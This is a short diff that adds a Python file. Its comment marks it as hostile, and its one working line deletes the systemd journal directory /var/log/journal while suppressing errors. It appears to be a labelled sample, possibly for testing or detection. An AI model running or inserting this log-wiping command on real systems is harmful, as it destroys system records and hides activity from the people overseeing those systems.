@@ -1,0 +1,4 @@
+# hostile: the log directory removed
+import shutil
+
+shutil.rmtree("/var/log/journal", ignore_errors=True)
